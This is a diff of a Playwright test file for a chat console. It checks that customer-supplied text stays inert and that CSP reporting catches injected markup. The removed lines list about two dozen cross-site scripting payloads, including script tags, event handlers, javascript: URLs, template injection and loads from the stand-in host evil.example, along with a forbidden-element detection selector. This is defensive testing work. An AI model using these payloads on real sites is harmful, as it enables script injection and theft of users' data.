@@ -1,6 +1,6 @@
 """Text from people is text, wherever it stands; the CSP has nothing to report."""
 
-from playwright.sync_api import Page, expect
+from playwright.sync_api import expect
 
 from tests.fakes.chat_script import order_card
 from tests.fakes.console_chats import StaffChat
@@ -14,37 +14,9 @@ from tests.fakes.console_data import (
     waiting_refund,
 )
 from tests.web.console.console_page import ConsolePage, queued_chat
+from tests.web.payloads import PAYLOADS, TOGETHER, Watch, not_shown, plant
 
-PAYLOADS = [
-    "<script>window.pwned = 1</script>",
-    "<img src=x onerror='window.pwned = 1'>",
-    '"><svg onload=window.pwned=1>',
-    "'><script src=//evil.example/x.js></script>",
-    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
-    "javascript:window.pwned=1",
-    "<a href='javascript:window.pwned=1'>点我</a>",
-    "<style>*{display:none}</style>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "{{constructor.constructor('window.pwned=1')()}}",
-    "${window.pwned=1}",
-    "</textarea><input autofocus onfocus=window.pwned=1>",
-    "<form action=//evil.example><button>提交</button></form>",
-    "<details open ontoggle=window.pwned=1>x</details>",
-    "<object data=javascript:window.pwned=1></object>",
-    "<math><mtext></mtext><script>window.pwned=1</script></math>",
-    "<!--<img src=x onerror=window.pwned=1>-->",
-    "\u202e<b onmouseover=window.pwned=1>翻转</b>",
-    '=HYPERLINK("//evil.example")',
-    "<template><script>window.pwned=1</script></template>",
-    "<body onload=window.pwned=1>",
-    "__proto__",
-]
-ALL = [*PAYLOADS, " ".join(PAYLOADS)]
-FORBIDDEN = (
-    "script, iframe, img, object, base, link, meta, style, b, math, template, [href^=javascript]"
-)
+CHATS_OF_A_PAGE = 50
 
 
 def poisoned_order(words: str) -> Data:
@@ -110,35 +82,44 @@ def poisoned_chat(chat_id: str, words: str) -> StaffChat:
 
 
 def test_payloads_in_every_field_stay_text(console: ConsolePage) -> None:
-    asked: list[str] = []
-    console.page.on("request", lambda request: asked.append(request.url))
-    chats = [poisoned_chat(f"cnv_{place}", words) for place, words in enumerate(ALL)]
+    watch = Watch(console.page, console.hub.url)
+    chats = [poisoned_chat(f"cnv_{place}", words) for place, words in enumerate(PAYLOADS)]
     console.hub.state.chats.update({chat.id: chat for chat in chats})
     console.start()
-    for chat, words in zip(chats, ALL, strict=True):
+    for chat, words in zip(chats, PAYLOADS, strict=True):
         console.page.evaluate("id => { location.hash = `#/chats/${id}`; }", chat.id)
         expect(console.bubbles).to_have_count(len(chat.messages))
         expect(console.handoff).to_be_visible()
         expect(console.customer.locator(".line-card")).to_have_count(2)
+        for place in (console.page.locator(".log"), console.handoff, console.customer):
+            assert not_shown([words], place.inner_text()) == []
+        assert watch.harm() == []
+    for chat, words in zip(chats, PAYLOADS, strict=True):
         console.arrive(chat, "customer", words)
-        expect(console.bubbles).to_have_count(len(chat.messages))
-        assert words in console.texts()
-        assert harm(console.page) == []
-    assert [url for url in asked if not url.startswith(console.hub.url)] == []
+    expect(console.bubbles).to_have_count(len(chats[-1].messages))
+    names = "\n".join(console.rows.locator(".name").all_inner_texts())
+    assert not_shown(PAYLOADS[:CHATS_OF_A_PAGE], names) == []
+    assert watch.harm() == []
 
 
-def harm(page: Page) -> list[str]:
-    """What on the page should not be there."""
-    found: list[str] = page.evaluate(
-        """forbidden => [
-            ...(window.pwned ? ["a script ran"] : []),
-            ...[...document.querySelectorAll("#console *")]
-                .filter(e => e.matches(forbidden) || [...e.attributes].some(a => /^(style|on)/.test(a.name)))
-                .map(e => e.outerHTML.slice(0, 100)),
-        ]""",
-        FORBIDDEN,
-    )
-    return found
+def test_payloads_together_in_every_field_stay_text(console: ConsolePage) -> None:
+    watch = Watch(console.page, console.hub.url)
+    chat = poisoned_chat("cnv_1", TOGETHER)
+    console.start(chat)
+    expect(console.handoff).to_be_visible()
+    console.arrive(chat, "customer", TOGETHER)
+    expect(console.bubbles).to_have_count(len(chat.messages))
+    assert not_shown(PAYLOADS, console.texts()[-1]) == []
+    assert watch.harm() == []
+
+
+def test_a_planted_payload_is_found_and_refused(console: ConsolePage) -> None:
+    console.start(queued_chat())
+    watch = Watch(console.page, console.hub.url)
+    plant(console.page.locator(".log"), ["<img src=x onerror=top.ran0=1>"])
+    console.eventually(lambda: len(console.hub.csp_reports) == 1)
+    assert any(seen.startswith("node: <img") for seen in watch.harm())
+    console.hub.csp_reports.clear()
 
 
 def test_names_cannot_turn_the_words_beside_them(console: ConsolePage) -> None:
